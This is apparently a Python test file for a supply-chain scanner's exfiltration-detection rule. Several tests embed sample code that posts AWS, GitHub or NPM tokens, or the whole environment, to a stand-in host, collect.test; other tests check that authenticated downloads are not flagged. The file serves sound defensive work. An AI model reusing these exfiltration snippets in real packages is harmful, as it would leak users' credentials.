"""What a network call answers does not carry the taint of what authenticated it, while
secrets sent in a request are still exfiltration."""

from __future__ import annotations

from stockade.analysis.model import Phase
from tests.analysis.python.helpers import FIXTURES, hits, sample, scan, scan_code, threats

RUNTIME, IMPORT, INSTALL = Phase.RUNTIME, Phase.IMPORT, Phase.INSTALL


def test_secret_variable_posted_at_install_time_is_exfiltration() -> None:
    findings = scan_code(
        """
        import os
        import requests
        requests.post("https://collect.test/k", data=os.environ["AWS_SECRET_ACCESS_KEY"])
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == [(3, INSTALL)]


def test_token_in_the_query_string_is_exfiltration() -> None:
    findings = scan_code(
        """
        import os
        from urllib.request import urlopen
        token = os.environ.get("GITHUB_TOKEN")
        url = "https://collect.test/t"
        urlopen(url + "?k=" + token)
        """,
        IMPORT,
    )
    assert hits(findings, "py-exfil-data") == [(5, IMPORT)]


def test_environment_dumped_into_a_body_is_exfiltration_even_when_called() -> None:
    findings = scan_code(
        """
        import os
        import requests

        def report():
            requests.post("https://collect.test/e", json=dict(os.environ))
        """
    )
    assert hits(findings, "py-exfil-data") == [(5, RUNTIME)]
    assert "the whole environment" in findings[-1].message


def test_secret_passed_to_a_local_sender_is_exfiltration_at_the_call() -> None:
    findings = scan_code(
        """
        import os
        import requests

        def send(value):
            requests.post("https://collect.test/s", data=value)

        send(os.environ["NPM_TOKEN"])
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == [(7, INSTALL)]


def test_data_a_token_authenticated_is_not_the_token() -> None:
    findings = scan_code(
        """
        import json
        import os
        from urllib.request import Request, urlopen, urlretrieve

        def read_url(url, token=None):
            headers = {"Accept": "application/json"}
            if token:
                headers["authorization"] = "Bearer " + token
            with urlopen(Request(url, headers=headers)) as res:
                return json.loads(res.read())

        release = read_url("https://api.git.test/releases/latest", token=os.environ.get("GH_TOKEN"))
        asset = release["assets"][0]["name"]
        urlretrieve("https://git.test/download/" + asset, asset)
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == []
    assert threats(findings) == []


def test_what_a_local_client_class_fetches_is_not_its_token() -> None:
    findings = scan_code(
        """
        import os
        import requests

        class Releases:
            def __init__(self, token):
                self.headers = {"Authorization": "token " + token}

            def latest(self):
                return requests.get("https://api.git.test/latest", headers=self.headers).json()

        tag = Releases(os.environ["GITHUB_TOKEN"]).latest()["tag_name"]
        requests.get("https://git.test/download/" + tag)
        """,
        INSTALL,
    )
    assert hits(findings, "py-exfil-data") == []


def test_a_request_object_carrying_a_secret_is_reported_where_it_is_built() -> None:
    findings = scan_code(
        """
        import json
        import os
        import urllib.request
        body = json.dumps(dict(os.environ)).encode()
        req = urllib.request.Request("https://collect.test/r", data=body)
        urllib.request.urlopen(req)
        """,
        IMPORT,
    )
    assert hits(findings, "py-exfil-data") == [(5, IMPORT)]


def test_github_release_download_look_alike_is_benign() -> None:
    folder = FIXTURES / "benign" / "github_release_binaries"
    findings = scan(sample(folder), root="xmlbind-6.1.3")
    assert threats(findings) == []
    assert ("py-network", "xmlbind-6.1.3/buildlibs.py") in {(f.rule, f.path) for f in findings}
    network = [f for f in findings if f.rule == "py-network"]
    assert {f.phase for f in network} == {INSTALL}
